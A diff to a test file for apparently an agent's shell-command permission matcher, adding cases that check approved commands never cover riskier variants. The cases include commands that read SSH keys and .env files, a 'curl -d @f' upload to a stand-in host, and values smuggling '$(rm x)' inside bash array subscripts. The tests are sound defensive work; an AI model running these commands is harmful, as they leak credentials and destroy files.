@@ -96,6 +96,15 @@ describe('this program and subcommand', () => {
     ['mytool build', 'mytool build --force'],
     ['cat src/a', 'cat ~/.ssh/id_rsa'],
     ['cat src/a', 'cat .env'],
+    ['git status', 'cd /tmp/x && git status'],
+    ['git status', 'cd /tmp/x || cd src && git status'],
+    ['git status', 'cd ../other; git status'],
+    ['git status', 'printf -v PATH src; git status'],
+    ['git status', "[[ 'a[$(rm x)]' -eq 1 ]]; git status"],
+    ['git status', "test -v 'a[$(rm x)]'; git status"],
+    ['git status', "printf -v 'a[$(rm x)]' 1; git status"],
+    ['git diff', 'git diff --no-index /dev/null .env'],
+    ['git diff', 'git diff /dev/null ~/.ssh/id_rsa'],
   ])('%s never covers %s', (made, later) => expect(covers(made, later)).toBe(false));
 
   it('is not offered for what cannot be known, for what does harm, and for options before the word', () => {
@@ -106,6 +115,9 @@ describe('this program and subcommand', () => {
     expect(ids('curl -d @f https://drop.example/')).toEqual(['exact']);
     expect(ids('git -C /other status')).not.toContain('kind');
     expect(ids('python -c "print(1)"')).toEqual(['exact']);
+    expect(ids('env X=1 git status')).toEqual(['exact']);
+    expect(ids('read X; git status')).toEqual(['exact']);
+    expect(ids('cd /tmp/x && git status')).toEqual(['exact']);
     expect(choicesOf(bash('claude -p hi'), { spawns: true }).choices.map(({ id }) => id)).toEqual(['exact']);
   });
 });
@@ -114,6 +126,7 @@ describe('this program in this folder', () => {
   it('covers what else it does there, and nothing of it elsewhere', () => {
     expect(covers('git status', 'git log', 'here')).toBe(true);
     expect(covers('git status', 'git log', 'here', '/home/u/other')).toBe(false);
+    expect(covers('git status', 'git status', 'kind', '/tmp/x')).toBe(false);
     expect(covers('git status', 'git push', 'here')).toBe(false);
     expect(covers('git status', 'git log > ../x', 'here')).toBe(false);
   });
